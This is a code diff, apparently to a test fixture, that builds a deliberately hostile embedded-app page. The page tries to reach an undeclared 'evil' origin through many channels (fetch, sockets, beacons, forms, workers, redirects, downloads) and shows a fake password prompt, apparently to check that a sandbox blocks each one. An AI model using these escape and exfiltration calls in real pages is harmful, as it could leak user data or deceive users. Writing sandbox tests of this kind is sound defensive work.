@@ -1,12 +1,21 @@
+/** The last try of an app: it goes to the undeclared origin itself. */
+export const endings = {
+  self: "location.href = evil + '/self'",
+  reload: `add('meta', { 'http-equiv': 'refresh', content: '0;url=' + evil + '/reload' }, document.head)`,
+  download: "add('a', { href: evil + '/download', download: 'x' }).click()",
+} as const
+
 /**
  * Returns the page of an app that tries to get out of its frame in every way, and says how each
- * went. `evil` is an origin that no server has declared.
+ * went, in the console. `evil` is an origin that no server has declared. At the end it goes there
+ * itself, by `end`.
  */
 export const attackPage = (
   evil: string,
-): string => `<!doctype html><html><body><p id="end"></p><script>
+  end: keyof typeof endings,
+): string => `<!doctype html><html><body><script>
 const evil = ${JSON.stringify(evil)}
-const say = (text) => document.body.append(Object.assign(document.createElement('p'), { textContent: text }))
+const say = (text) => console.log('app: ' + text)
 const add = (name, attributes, parent = document.body) => {
   const element = document.createElement(name)
   for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value)
@@ -19,6 +28,7 @@ const tries = {
   xhr: () => new Promise((done, fail) => { const x = new XMLHttpRequest(); x.open('GET', evil + '/xhr'); x.onload = done; x.onerror = () => fail(new Error('refused')); x.send() }),
   socket: () => new Promise((done, fail) => { const s = new WebSocket(evil.replace('http', 'ws') + '/socket'); s.onopen = done; s.onerror = () => fail(new Error('refused')) }),
   events: () => new Promise((done, fail) => { const s = new EventSource(evil + '/events'); s.onopen = done; s.onerror = () => fail(new Error('refused')) }),
+  address: () => { if (!document.baseURI.startsWith('http')) throw new Error('refused') },
   storage: () => localStorage.setItem('a', 'b'),
   session: () => sessionStorage.getItem('a'),
   cookie: () => { document.cookie = 'a=b'; if (!document.cookie) throw new Error('refused') },
@@ -30,9 +40,9 @@ const tries = {
   popup: () => { if (!open(evil + '/popup')) throw new Error('refused') },
   alert: () => { if (!confirm('Password?')) throw new Error('refused') },
   eval: () => eval('1'),
-  worker: () => new Worker('data:text/javascript,fetch("' + evil + '/worker")'),
 }
 const silent = {
+  worker: () => new Worker('data:text/javascript,fetch("' + evil + '/worker")'),
   beacon: () => navigator.sendBeacon(evil + '/beacon', 'x'),
   image: () => { new Image().src = evil + '/image' },
   script: () => add('script', { src: evil + '/script' }),
@@ -50,18 +60,20 @@ const silent = {
   blank: () => add('form', { action: evil + '/blank', target: '_blank' }).submit(),
   ping: () => add('a', { href: '#x', ping: evil + '/ping' }).click(),
   link: () => add('a', { href: evil + '/link', target: '_top' }).click(),
-  download: () => add('a', { href: evil + '/download', download: 'x' }).click(),
-  refresh: () => add('meta', { 'http-equiv': 'refresh', content: '0;url=' + evil + '/refresh' }, document.head),
 }
 const run = async () => {
   for (const [name, attempt] of Object.entries(tries)) {
     try { await attempt(); say(name + ' WENT THROUGH') } catch (error) { say(name + ' refused') }
   }
-  for (const [name, attempt] of Object.entries(silent)) { try { attempt() } catch {} }
+  for (const [name, attempt] of Object.entries(silent)) {
+    say(name)
+    try { attempt() } catch {}
+    await new Promise((next) => setTimeout(next))
+  }
   await new Promise((next) => setTimeout(next, 300))
-  document.querySelector('#end').textContent = 'tried'
-  parent.postMessage({ jsonrpc: '2.0', method: 'ui/notifications/size-changed', params: { height: 321 } }, '*')
-  setTimeout(() => { location.href = evil + '/self' }, 100)
+  say('tried')
+  await new Promise((next) => setTimeout(next, 300))
+  ${endings[end]}
 }
 run()
 </script></body></html>`
